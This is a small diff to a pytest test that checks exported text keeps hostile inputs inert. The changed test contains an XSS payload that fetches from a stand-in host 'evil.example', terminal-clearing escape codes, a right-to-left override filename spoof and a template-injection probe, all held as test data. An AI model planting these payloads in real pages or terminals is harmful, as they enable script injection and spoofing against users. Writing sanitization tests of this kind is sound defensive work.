@@ -10,6 +10,7 @@ from html.parser import HTMLParser
 import pytest
 
 from orket.exports.markdown import markdown_text
+from orket.text import printable
 from orket.warehouse import Warehouse
 from tests.built_sweep import Sweep
 from tests.golden_cases import CASES
@@ -75,7 +76,7 @@ def test_hostile_texts_stay_texts(attacked):
         for name in ("href", "src", "xlink:href"):
             assert (attributes.get(name) or "#").startswith(("#", "data:,"))
     assert "<script>fetch('https://evil.example/x')</script>" in attacked.text
-    assert QUANT in attacked.text and MODEL in attacked.text
+    assert printable(QUANT) in attacked.text and MODEL in attacked.text
     # What would clear a terminal or turn the direction of reading is spelled out.
     assert "\\x1b[2J\\u202egnp.exe {{ 7*7 }}" in attacked.text
     assert "\x1b" not in attacked.text and "\u202e" not in attacked.text
